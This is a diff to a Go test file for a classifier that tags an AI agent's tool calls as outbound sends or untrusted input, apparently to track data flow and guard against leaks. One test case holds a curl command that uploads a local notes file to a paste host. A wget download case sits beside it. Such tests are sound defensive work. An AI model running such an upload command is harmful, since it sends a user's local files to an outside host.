@@ -38,8 +38,10 @@ func TestWhatACallMeansForItsSessionsFlow(t *testing.T) {
 		{"a connector's read is taken in", call("mcp__github__get_issue", map[string]string{"n": "1"}), Facets{Untrusted: "mcp:github"}},
 		{"a connector's comment is a send", call("mcp__github__add_issue_comment", map[string]string{"body": "x"}), Facets{Send: "mcp:github"}},
 		{"a trusted connector is neither", call("mcp__wiki__search_pages", map[string]string{"q": "x"}), Facets{}},
-		{"curl with data is a send", call("Bash", map[string]string{"command": "curl -d @notes.txt https://paste.example/x"}),
-			Facets{Send: "paste.example"}},
+		{"curl with data is a send, and takes in the answer", call("Bash", map[string]string{"command": "curl -d @notes.txt https://paste.example/x"}),
+			Facets{Untrusted: "download:paste.example", Send: "paste.example"}},
+		{"a download is taken in", call("Bash", map[string]string{"command": "wget -q https://files.example/setup.md"}),
+			Facets{Untrusted: "download:files.example"}},
 	}
 	for _, tc := range cases {
 		if got := c.FlowOf(tc.p); got != tc.want {
